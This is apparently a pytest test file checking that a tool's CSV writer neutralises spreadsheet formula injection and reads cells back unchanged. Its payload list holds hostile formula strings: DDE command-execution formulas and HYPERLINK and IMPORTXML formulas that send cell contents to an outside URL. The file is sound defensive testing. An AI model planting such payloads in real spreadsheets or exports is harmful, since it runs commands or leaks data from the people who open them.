"""CSV written by InferSave: nothing in it runs in a spreadsheet, and it reads back as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from infersave.catalogs.calibrations import load_calibrations, write_calibrations
from infersave.catalogs.spreadsheet import defused, restored, write_table
from infersave.catalogs.tables import rows

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.org",A1),"//a")',
    "=DDE(0,0,0)",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@here",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttab",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1-",
    "＠SUM(1)",
    "-inf",
    "+1_000",
)
PLAIN = ("", "L4", "it's", "'quoted'", "a=b", "1.5", "-1", "+2.", "-1.5e-3", ".5", "1e300", "''")


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_is_written_as_text(text: str) -> None:
    stream = io.StringIO()
    write_table(stream, ["source"], [[text]])
    stream.seek(0)
    (_, (cell,)) = csv.reader(stream)
    assert cell == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_and_numbers_are_written_as_they_are(text: str) -> None:
    assert defused(text) == restored(text) == text


def test_a_table_reads_back_as_it_was(tmp_path: Path) -> None:
    texts = [f"{marks}{text}" for text in (*PAYLOADS, *PLAIN) for marks in ("", "'", "''")]
    with (tmp_path / "a.csv").open("w", newline="", encoding="utf-8") as stream:
        write_table(stream, ("a", "b"), ((text, "x") for text in texts))
    found = [row.text("a") for row in rows(tmp_path / "a.csv", ("a", "b"), ())]
    assert found == texts


def test_calibrations_of_files_with_such_names(tmp_path: Path) -> None:
    """A source lists the files that were fitted; names of GPUs may begin with a sign, too."""
    named = [
        load_calibrations()[0].replace(gpu=f"{start}L4", source=f"{payload}.csv")
        for payload, start in zip(PAYLOADS, ("+", "-", "@", *"abcdefghijklmnopqrstuv"), strict=True)
    ]
    path = tmp_path / "mine.csv"
    with path.open("w", newline="", encoding="utf-8") as stream:
        write_calibrations(stream, named)
    assert load_calibrations(str(path)) == tuple(named)
    with path.open(newline="", encoding="utf-8") as stream:
        cells = [cell for row in csv.DictReader(stream) for cell in (row["gpu"], row["source"])]
    assert not [cell for cell in cells if cell.startswith(STARTS)]
